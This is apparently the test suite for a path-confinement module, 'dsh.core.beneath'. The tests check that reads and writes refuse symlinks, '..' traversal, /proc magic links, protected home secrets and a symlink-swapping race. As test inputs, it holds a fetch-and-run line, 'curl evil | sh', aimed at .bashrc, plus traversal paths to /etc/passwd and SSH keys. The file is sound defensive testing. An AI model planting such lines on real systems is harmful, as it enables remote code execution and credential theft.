"""dsh.core.beneath: the one way dsh's own code opens a path the workspace can influence.

Each test observes the outcome from outside: a file outside the folder that must not be read
or changed, whatever the path, the links on the way or a process racing the open.
"""

from __future__ import annotations

import os
import stat
import threading
from pathlib import Path

import pytest
from hypothesis import HealthCheck
from hypothesis import given
from hypothesis import settings
from hypothesis import strategies as st

from dsh.core import beneath
from dsh.core import files

SECRET = b"the secret outside the folder\n"


def _append(root: Path, rel: str, data: bytes) -> None:
    """An append as dsh.memory makes one: through a descriptor open_beneath gives."""
    fd = beneath.open_beneath(root, rel, os.O_WRONLY | os.O_APPEND | os.O_CREAT)
    try:
        os.write(fd, data)
    finally:
        os.close(fd)


@pytest.fixture(params=["openat2", "walk"])
def mode(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """Every test runs with the kernel's openat2 and with the O_NOFOLLOW walk."""
    if request.param == "walk":
        monkeypatch.setattr(beneath, "_openat2_state", [None])
    else:
        monkeypatch.setattr(beneath, "_openat2_state", [])
        if beneath._openat2() is None:
            pytest.skip("no openat2 here")
    return str(request.param)


@pytest.fixture
def tree(tmp_path: Path) -> tuple[Path, Path]:
    root = tmp_path / "root"
    (root / "a" / "b").mkdir(parents=True)
    (root / "a" / "b" / "f.txt").write_text("inside\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret").write_bytes(SECRET)
    return root, outside


def test_a_plain_file_beneath_is_read(mode: str, tree: tuple[Path, Path]) -> None:
    root, _ = tree
    assert beneath.read(root, "a/b/f.txt") == b"inside\n"
    assert beneath.read(root, "./a//b/f.txt") == b"inside\n"


@pytest.mark.parametrize("make", [
    lambda r, o: os.symlink(o / "secret", r / "abs"),                        # absolute
    lambda r, o: os.symlink("../outside/secret", r / "abs"),                 # relative, out
    lambda r, o: os.symlink("a/b/f.txt", r / "abs"),                         # relative, in
    lambda r, o: os.symlink(o / "missing", r / "abs"),                       # dangling
    lambda r, o: (os.symlink("abs", r / "abs2"), os.symlink("abs2", r / "abs")),  # loop
    lambda r, o: os.symlink(o, r / "abs"),                                   # to a folder
], ids=["absolute", "relative-out", "relative-in", "dangling", "loop", "directory"])
def test_no_symbolic_link_is_followed(mode: str, tree: tuple[Path, Path], make: object) -> None:
    root, outside = tree
    make(root, outside)  # type: ignore[operator]
    for rel in ("abs", "abs/secret"):
        with pytest.raises(beneath.Refused, match="symbolic link"):
            beneath.read(root, rel)


def test_a_link_in_a_middle_component_is_refused(mode: str, tree: tuple[Path, Path]) -> None:
    root, outside = tree
    os.symlink(outside, root / "a" / "out")
    with pytest.raises(beneath.Refused, match="symbolic link"):
        beneath.read(root, "a/out/secret")


@pytest.mark.parametrize("rel, why", [
    ("../outside/secret", "'..'"), ("a/../../outside/secret", "'..'"),
    ("/etc/passwd", "absolute"), ("a/\0b", "NUL"),
])
def test_paths_that_leave_are_refused_by_name(mode: str, tree: tuple[Path, Path], rel: str,
                                              why: str) -> None:
    root, _ = tree
    with pytest.raises(beneath.Refused, match=why):
        beneath.read(root, rel)


def test_proc_magic_links_are_refused(mode: str, tmp_path: Path) -> None:
    """/proc/self/root and /proc/self/fd/N are magic links: never a way out of the folder."""
    with pytest.raises(beneath.Refused):
        beneath.read("/proc/self", "root/etc/passwd")
    fd = os.open(tmp_path, os.O_RDONLY)
    try:
        with pytest.raises(beneath.Refused):
            beneath.read("/proc/self/fd", f"{fd}/x")
    finally:
        os.close(fd)


def test_a_fifo_and_a_device_are_refused_without_blocking(mode: str, tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    with pytest.raises(files.NotRegular, match="FIFO"):
        beneath.read(tmp_path, "pipe")
    with pytest.raises(files.NotRegular):
        beneath.read("/dev", "null")
    (tmp_path / "big").write_bytes(b"four")
    with pytest.raises(files.TooLarge):
        beneath.read(tmp_path, "big", 3)


def test_protected_paths_are_refused_whatever_the_route(mode: str, tmp_path: Path,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    """dsh's data and config directories and the home secrets, even when the folder asked
    for holds them (a project at $HOME, a workspace that is the config directory)."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_bytes(SECRET)
    (home / ".bashrc").write_text("# rc\n")
    monkeypatch.setenv("HOME", str(home))
    config = tmp_path / "xdg"
    (config / "dsh" / "keys").mkdir(parents=True)
    (config / "dsh" / "keys" / "keys.json").write_bytes(SECRET)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(config))
    for root, rel in [(home, ".ssh/id_ed25519"), (home / ".ssh", "id_ed25519"),
                      (config, "dsh/keys/keys.json"), (config / "dsh", "keys/keys.json")]:
        with pytest.raises(beneath.Refused, match="protected"):
            beneath.read(root, rel)
    with pytest.raises(beneath.Refused, match="protected"):
        _append(home, ".bashrc", b"curl evil | sh\n")
    with pytest.raises(beneath.Refused, match="protected"):
        beneath.write(home, ".bashrc", b"curl evil | sh\n")
    assert (home / ".bashrc").read_text() == "# rc\n"


def test_write_replaces_by_rename_and_keeps_a_hard_link_outside(mode: str,
                                                                tree: tuple[Path, Path]) -> None:
    root, outside = tree
    os.link(outside / "secret", root / "hard")
    os.chmod(root / "hard", 0o640)
    old = beneath.write(root, "hard", b"new\n")
    assert old is not None and old.st_nlink == 2
    assert (outside / "secret").read_bytes() == SECRET  # the other name keeps the old bytes
    assert (root / "hard").read_bytes() == b"new\n"
    assert stat.S_IMODE((root / "hard").stat().st_mode) == 0o640
    assert beneath.write(root, "x/y/z.txt", b"made", create_dirs=True) is None
    assert (root / "x" / "y" / "z.txt").read_bytes() == b"made"
    assert [p.name for p in root.iterdir() if p.name.endswith(".tmp")] == []


def test_write_and_append_never_go_through_a_link(mode: str, tree: tuple[Path, Path]) -> None:
    root, outside = tree
    os.symlink(outside / "secret", root / "mem.md")
    os.symlink(outside, root / "dir")
    for call in (lambda: beneath.write(root, "mem.md", b"x"),
                 lambda: _append(root, "mem.md", b"x"),
                 lambda: beneath.write(root, "dir/secret", b"x"),
                 lambda: beneath.write(root, "dir/new", b"x", create_dirs=True)):
        with pytest.raises(beneath.Refused):
            call()
    assert (outside / "secret").read_bytes() == SECRET
    assert sorted(p.name for p in outside.iterdir()) == ["secret"]


def test_a_flipper_racing_the_open_never_gets_the_secret_through(
        mode: str, tree: tuple[Path, Path]) -> None:
    """A process swapping a file for a symlink to a secret, between any check and the open:
    400 reads see the file or a refusal, never the secret."""
    root, outside = tree
    target = root / "skill.md"
    target.write_text("plain\n")
    stop = threading.Event()

    def flip() -> None:
        tmp_link, tmp_file = root / ".l", root / ".f"
        while not stop.is_set():
            try:
                os.symlink(outside / "secret", tmp_link)
                os.replace(tmp_link, target)
                tmp_file.write_text("plain\n")
                os.replace(tmp_file, target)
            except OSError:
                pass

    flipper = threading.Thread(target=flip, daemon=True)
    flipper.start()
    seen = {"plain": 0, "refused": 0}
    try:
        for _ in range(400):
            try:
                data = beneath.read(root, "skill.md")
            except (beneath.Refused, FileNotFoundError):
                seen["refused"] += 1
                continue
            assert data != SECRET
            seen["plain"] += 1
    finally:
        stop.set()
        flipper.join()
    assert seen["plain"] + seen["refused"] == 400


_COMPONENT = st.sampled_from(["a", "b", "f.txt", "..", ".", "", "out", "link", "\u2024\u2024",
                              "\uff0e\uff0e", "a\u2215b", "x\uff0fy", "secret"])


@settings(max_examples=300, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(parts=st.lists(_COMPONENT, min_size=1, max_size=6), absolute=st.booleans())
def test_no_generated_path_reads_outside(tree: tuple[Path, Path], parts: list[str],
                                         absolute: bool) -> None:
    """Property: whatever components (look-alike dots and slashes, '..', links to the outside
    in the tree), a read either fails or returns bytes from inside the folder."""
    root, outside = tree
    if not (root / "out").is_symlink():
        os.symlink(outside, root / "out")
        os.symlink("../outside/secret", root / "link")
    rel = ("/" if absolute else "") + "/".join(parts)
    try:
        data = beneath.read(root, rel)
    except OSError:
        return
    assert data != SECRET
